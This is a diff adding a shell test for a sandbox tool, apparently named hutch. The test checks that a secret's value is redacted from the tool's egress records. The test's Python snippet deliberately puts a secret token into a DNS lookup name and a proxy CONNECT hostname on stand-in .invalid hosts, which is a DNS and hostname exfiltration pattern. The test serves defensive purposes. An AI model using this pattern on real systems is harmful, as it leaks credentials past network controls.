@@ -532,3 +532,27 @@ helper_status() {
         run "$HUTCH" run -p "$d/deny.ini" -- true
         [ "$status" -eq 0 ]
 }
+
+@test "egress: a secret's value the job puts in a name it looks up or asks the proxy for is redacted in the record" {
+        local value="nsec$(date +%N)"
+        run env TOK="$value" "$HUTCH" run --secret TOK --net allow --allow only-this.invalid:443 \
+                --json -- python3 -c '
+import os, socket
+t = os.environ["TOK"]
+try: socket.getaddrinfo(t + ".example.invalid", 80)
+except Exception: pass
+s = socket.create_connection(("127.0.0.1", 3128))
+s.sendall(("CONNECT " + t + "-c.invalid:443 HTTP/1.1\r\n\r\n").encode())
+s.recv(100)'
+        [ "$status" -eq 0 ]
+        [[ "$output" != *"$value"* ]]
+        # the lookup and the proxy's request are there, redacted
+        echo "$output" | jq -e '[.connections[] | select(.proto == "dns" and .dest == "[secret TOK].example.invalid")] | length >= 1'
+        echo "$output" | jq -e '[.connections[] | select(.host == "[secret TOK]-c.invalid")] | length == 1'
+        local id
+        id=$(echo "$output" | jq -r .id)
+        run "$HUTCH" show "$id"
+        [[ "$output" != *"$value"* ]]
+        run grep -rqaF "$value" "$HUTCH_STATE_DIR"
+        [ "$status" -eq 1 ]
+}
